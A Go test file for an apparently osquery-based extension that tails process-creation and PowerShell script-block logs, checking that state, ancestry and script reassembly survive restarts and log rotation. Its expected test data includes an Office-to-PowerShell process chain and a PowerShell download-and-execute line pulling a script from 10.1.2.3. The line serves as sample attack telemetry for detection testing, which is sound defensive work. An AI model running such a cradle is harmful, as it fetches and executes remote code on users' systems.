package eventtables

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/osquery/osquery-go/plugin/table"
)

func chainLines(t *testing.T) []string {
	t.Helper()
	data, err := os.ReadFile("testdata/chain.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	return strings.SplitAfter(string(data), "\n")
}

func writeLines(t *testing.T, path string, lines []string, appendTo bool) {
	t.Helper()
	flag := os.O_CREATE | os.O_WRONLY | os.O_TRUNC
	if appendTo {
		flag = os.O_CREATE | os.O_WRONLY | os.O_APPEND
	}
	f, err := os.OpenFile(path, flag, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString(strings.Join(lines, "")); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestStateSurvivesRestart stops the tables after part of a chain and of a script
// block was read, rotates the first log away, appends the rest to the second, and
// starts again: read positions resume (nothing is read twice), the ancestry still
// names the ancestors from the rotated log, and the script block is reassembled from
// the parts kept across the restart.
func TestStateSurvivesRestart(t *testing.T) {
	lines := chainLines(t)
	logs, state := t.TempDir(), t.TempDir()
	a, b := filepath.Join(logs, "a.jsonl"), filepath.Join(logs, "b.jsonl")
	writeLines(t, a, lines[:4], false) // procs 1, 2; script block parts 3/3 and 1/3
	writeLines(t, b, lines[4:5], false)
	opt := Options{Paths: []string{filepath.Join(logs, "*.jsonl")}, StateDir: state}

	s1 := New(opt)
	if n := len(procs(t, s1, table.QueryContext{})); n != 3 {
		t.Fatalf("before the restart: %d process rows, want 3", n)
	}
	if err := s1.Save(context.Background()); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(a); err != nil { // rotated away while the extension was down
		t.Fatal(err)
	}
	writeLines(t, b, lines[5:], true)

	s2 := New(opt)
	rows := procs(t, s2, table.QueryContext{})
	if len(rows) != 3 {
		t.Fatalf("after the restart: %d process rows from b.jsonl, want 3", len(rows))
	}
	if st := stats(t, s2); st.Events != 2 {
		t.Errorf("after the restart the tail read %d process creations, want the 2 appended (positions not resumed?)", st.Events)
	}
	if got, want := rows[2]["ancestry"], "? > userinit.exe > explorer.exe > winword.exe > cmd.exe > powershell.exe > conhost.exe"; got != want {
		t.Errorf("ancestry across the restart = %q, want %q", got, want)
	}
	one := scripts(t, s2, where("script_block_id", table.OperatorEquals, "{AAAAAAAA-1111-2222-3333-444444444444}"))
	if len(one) != 1 {
		t.Fatalf("script block rows = %d, want 1", len(one))
	}
	if one[0]["complete"] != "1" || one[0]["script_text"] != "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')" {
		t.Errorf("script block across the restart: complete=%s text=%q", one[0]["complete"], one[0]["script_text"])
	}
}

// TestStateReplacedOrForeign reads a source from the start when it was replaced while
// the extension was down, when the sources changed, and when the state is damaged.
func TestStateReplacedOrForeign(t *testing.T) {
	lines := chainLines(t)
	for _, tc := range []struct {
		name   string
		change func(t *testing.T, log, state string) Options
		want   int // process creations in the buffer after the restart
	}{
		{"replaced", func(t *testing.T, log, state string) Options {
			writeLines(t, log, append([]string{lines[2]}, lines[4:]...), false) // longer, different start
			return Options{Paths: []string{log}, StateDir: state}
		}, 4},
		{"sources changed", func(t *testing.T, log, state string) Options {
			writeLines(t, log, lines[4:], true)
			return Options{Paths: []string{log, filepath.Join(filepath.Dir(log), "other.jsonl")}, StateDir: state}
		}, 5},
		{"damaged", func(t *testing.T, log, state string) Options {
			writeLines(t, log, lines[4:], true)
			if err := os.WriteFile(filepath.Join(state, stateFile), []byte("{not json"), 0o600); err != nil {
				t.Fatal(err)
			}
			return Options{Paths: []string{log}, StateDir: state}
		}, 5},
		{"grown", func(t *testing.T, log, state string) Options {
			writeLines(t, log, lines[4:], true)
			return Options{Paths: []string{log}, StateDir: state}
		}, 3},
	} {
		t.Run(tc.name, func(t *testing.T) {
			log, state := filepath.Join(t.TempDir(), "live.jsonl"), t.TempDir()
			writeLines(t, log, lines[:4], false)
			s1 := New(Options{Paths: []string{log}, StateDir: state})
			procs(t, s1, table.QueryContext{})
			if err := s1.Save(context.Background()); err != nil {
				t.Fatal(err)
			}
			s2 := New(tc.change(t, log, state))
			procs(t, s2, table.QueryContext{})
			if got := stats(t, s2).Events; got != tc.want {
				t.Errorf("buffered process creations after the restart = %d, want %d", got, tc.want)
			}
		})
	}
}
